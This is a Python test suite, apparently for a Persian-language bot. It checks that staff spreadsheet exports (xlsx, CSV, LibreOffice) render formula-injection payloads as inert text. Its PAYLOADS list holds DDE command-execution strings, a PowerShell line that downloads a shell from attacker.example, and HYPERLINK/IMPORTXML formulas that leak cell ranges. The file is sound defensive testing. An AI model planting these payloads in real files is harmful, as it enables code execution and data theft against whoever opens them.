"""The cell policy (bot/services/cells.py) in every file staff download: known spreadsheet
injection payloads written by members, course files and broadcasts come back as text — from
openpyxl, from the sheet XML itself (no `<f>` element anywhere) and, where it is installed,
from LibreOffice — while numbers stay numbers and IDs keep their leading zeros."""

from __future__ import annotations

import csv
import io
import os
import shutil
import subprocess
import zipfile
from dataclasses import replace

import pytest
from lxml import etree
from openpyxl import load_workbook

from bot.services.broadcast import table_csv, table_xlsx
from bot.services.catalogue import FIELDS
from bot.services.cells import csv_value, formula_like
from bot.services.course_import import workbook_bytes
from bot.services.exports import nominees_csv, nominees_xlsx
from storage.assessments import AssessmentsRepo
from tests.services.admin_support import make_services, person
from tests.services.courses_support import add_course
from tests.services.test_course_admin import registering
from tests.services.test_course_import import GOOD, xlsx
from tests.services.test_exports import ROW

PAYLOADS = (
    "=cmd|' /C calc'!A0",
    "=cmd|'/C powershell IEX(wget attacker.example/shell.exe)'!A0",
    '=DDE("cmd";"/C calc";"__DdeLink_60_870516294")',
    "+SUM(1,1)",
    "-2+3",
    "-1+cmd|' /C calc'!A0",
    "@SUM(1)",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1",
    "\r=1",
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠SUM(1)",
    "\u200f=1+1",  # a right-to-left mark first, as Persian keyboards type
    " =1+1",
    '=HYPERLINK("http://example.org/?"&TEXTJOIN(",",1,C:D),"مریم")',
    '=IMPORTXML(CONCAT("http://example.org/?v=",CONCATENATE(A2:E2)),"//a")',
)
PLAIN = ("مریم", "0076229645", "09121234567", "a=b", "1404/08/26", "#N/A")


def same(written: str, read: str) -> bool:
    """XML keeps a carriage return as a line end (and the monthly list drops it): equal but
    for those."""
    return written.replace("\r", "") == read.replace("\r", "").replace("\n", "")


def no_formula_anywhere(data: bytes) -> None:
    """No worksheet of the file holds a formula element, whatever a reader makes of it."""
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/") and name.endswith(".xml"):
                root = etree.fromstring(archive.read(name))
                assert not root.xpath("//*[local-name()='f']"), name


def xlsx_texts(data: bytes) -> list[tuple[object, str, bool]]:
    """(value, openpyxl data type, quote prefix) of every non-empty cell of every sheet."""
    no_formula_anywhere(data)
    book = load_workbook(io.BytesIO(data))
    return [
        (cell.value, cell.data_type, bool(cell.quotePrefix))
        for sheet in book.worksheets
        for row in sheet.iter_rows()
        for cell in row
        if cell.value is not None
    ]


def assert_payloads_are_text(data: bytes, payloads=PAYLOADS, *, quoted: bool = True) -> None:
    """Every payload is a text cell; with `quoted` (openpyxl writers) every formula-like text
    also carries the quote prefix, so editing it in Excel keeps it text."""
    cells = xlsx_texts(data)
    assert all(kind != "f" for _, kind, _ in cells)
    texts = [value for value, _, _ in cells if isinstance(value, str)]
    for payload in payloads:
        found = [text for text in texts if same(payload, text)]
        assert found, payload
    for value, kind, prefixed in cells:
        if isinstance(value, str) and formula_like(value):
            assert kind == "s" and prefixed == quoted, value


def csv_rows(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))


# --- the policy itself ---------------------------------------------------------------------------


@pytest.mark.parametrize("payload", PAYLOADS)
def test_every_known_payload_is_formula_like(payload):
    assert formula_like(payload)
    assert csv_value(payload) == "'" + payload


@pytest.mark.parametrize("text", (*PLAIN, "", "   ", "a-b", "۰۹۱۲"))
def test_ordinary_text_is_left_alone(text):
    assert not formula_like(text) and csv_value(text) == text


def test_numbers_stay_numbers_and_other_values_become_text():
    assert [csv_value(v) for v in (-5, 2.5, 0, None)] == [-5, 2.5, 0, None]
    assert csv_value(True) == "True" and csv_value(float("nan")) == "nan"


# --- every file staff download -------------------------------------------------------------------


def nominee_rows():
    fields = ("first_name", "last_name", "cooperative_name", "role", "course_title", "county")
    rows = [ROW]
    for index, payload in enumerate(PAYLOADS):
        rows.append(replace(ROW, **{fields[index % len(fields)]: payload}))
    return rows


def test_monthly_list_xlsx_writes_payloads_as_text():
    data = nominees_xlsx(nominee_rows())
    assert_payloads_are_text(data, quoted=False)  # inline strings (rustpy-xlsxwriter)
    sheet = load_workbook(io.BytesIO(data)).active
    assert sheet.cell(2, 1).value == 1 and sheet.cell(2, 15).value == 1  # numbers stay numbers
    assert sheet.cell(2, 4).value == "0076229645"


def test_monthly_list_csv_quotes_payloads():
    rows = csv_rows(nominees_csv(nominee_rows()))
    cells = [cell for row in rows[1:] for cell in row]
    for payload in PAYLOADS:
        assert "'" + payload in cells, payload
    assert rows[1][:5] == ["1", "زهرا", "محمدی", "0076229645", "09121234567"]
    assert not any(formula_like(cell) for cell in cells)


def broadcast_rows():
    return [
        [number, number * 10, "Telegram", str(900 + number), payload, "", "sent", payload, 1, ""]
        for number, payload in enumerate(PAYLOADS, start=1)
    ]


def test_broadcast_report_xlsx_and_csv():
    headers = ["#", "member", "platform", "user", "name", "username", "status", "reason", "n", "t"]
    assert_payloads_are_text(table_xlsx(headers, broadcast_rows(), rtl=True))
    sheet = load_workbook(io.BytesIO(table_xlsx(headers, broadcast_rows(), rtl=True))).active
    assert sheet.cell(2, 1).value == 1 and sheet.cell(2, 2).value == 10
    assert sheet.cell(2, 4).value == "901" and sheet.cell(2, 4).number_format == "@"
    rows = csv_rows(table_csv(headers, broadcast_rows()))
    assert [row[4] for row in rows[1:]] == ["'" + p for p in PAYLOADS]
    assert rows[1][:4] == ["1", "10", "Telegram", "901"]


def test_course_file_and_template_write_payloads_as_text():
    raw = {"ref": "c-1", "title_fa": PAYLOADS[0], "total_hours": 48, "capacity": 25}
    rows = [{**raw, "ref": f"c-{i}", "provider_name": p} for i, p in enumerate(PAYLOADS)]
    data = workbook_bytes([raw, *rows], lambda key: key, rtl=True)
    assert_payloads_are_text(data)
    sheet = load_workbook(io.BytesIO(data)).worksheets[0]
    assert sheet.cell(2, 16).value == 48 and sheet.cell(2, 17).value == 25


async def test_course_title_imported_as_text_comes_out_of_the_export_as_text(db, clock):
    services = make_services(db, clock)
    staff = await person(db, clock, 7001, "staff")
    link = '=HYPERLINK("http://example.org/?"&TEXTJOIN(",",TRUE,C:D),"مریم")'  # no digits:
    book = load_workbook(io.BytesIO(xlsx([GOOD])))  # Persian titles get Persian digits
    for field, text in (("title_fa", link), ("provider_name", "+SUM(A:A)")):
        cell = book.active.cell(2, FIELDS.index(field) + 1, text)
        cell.data_type = "s"  # typed after an apostrophe: a text cell in the office's file
    upload = io.BytesIO()
    book.save(upload)
    report = await services.admin.imports.import_xlsx(staff, upload.getvalue())
    assert report.imported
    _name, data = await services.admin.imports.export(None, lambda key: key)
    assert_payloads_are_text(data, (link, "+SUM(A:A)"))


async def test_course_people_export_writes_a_typed_name_as_text(db, clock):
    services = make_services(db, clock)
    staff = await person(db, clock, 7001, "staff")
    course = await add_course(db, clock.now(), capacity=5)
    members = [await person(db, clock, 8000 + i) for i in range(len(PAYLOADS))]
    async with db.write() as conn:
        for index, (member, payload) in enumerate(zip(members, PAYLOADS, strict=True)):
            profile = {"full_name": payload, "national_id": "0076229645", "mobile": "0912123456"}
            await AssessmentsRepo(conn).save_profile(
                member.id, {**profile, "mobile": profile["mobile"] + str(index % 10)}, clock.now()
            )
    registration = registering(services)
    for member in members:
        await registration.register(member.id, course.id)
    _name, data = await services.admin.courses.export_people(staff, course.id, headers={})
    assert_payloads_are_text(data)
    sheet = load_workbook(io.BytesIO(data)).worksheets[0]
    assert sheet.cell(2, 1).value == 1 and sheet.cell(2, 3).value == "0076229645"


async def test_audit_export_writes_reasons_and_names_as_text(db, clock):
    services = make_services(db, clock)
    staff = await person(db, clock, 7001, "staff", first_name=PAYLOADS[-2])
    for payload in PAYLOADS:
        await services.admin.audit.record(staff.id, "course.export", "course", 3, reason=payload)
    data = await services.admin.audit.export_xlsx()
    assert_payloads_are_text(data)
    sheet = load_workbook(io.BytesIO(data)).active
    assert sheet.cell(2, 1).value == 1 and sheet.cell(2, 7).value == 3  # numbers stay numbers


@pytest.mark.skipif(shutil.which("soffice") is None, reason="LibreOffice is not installed")
def test_libreoffice_reads_every_payload_back_as_text(tmp_path):
    headers = ["#", "member", "platform", "user", "name", "username", "status", "reason", "n", "t"]
    files = {
        "month.xlsx": nominees_xlsx(nominee_rows()),
        "report.xlsx": table_xlsx(headers, broadcast_rows(), rtl=False),
    }
    for name, data in files.items():
        (tmp_path / name).write_bytes(data)
    to_csv = "csv:Text - txt - csv (StarCalc):44,34,76"
    subprocess.run(
        ["soffice", "--headless", "--convert-to", to_csv, "--outdir", tmp_path, *files],
        check=True,
        capture_output=True,
        timeout=180,
        cwd=tmp_path,
        env={**os.environ, "HOME": str(tmp_path)},
    )
    for name in files:
        text = (tmp_path / name.replace(".xlsx", ".csv")).read_text(encoding="utf-8")
        cells = [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row]
        for payload in PAYLOADS:
            assert any(same(payload, cell) for cell in cells), (name, payload)
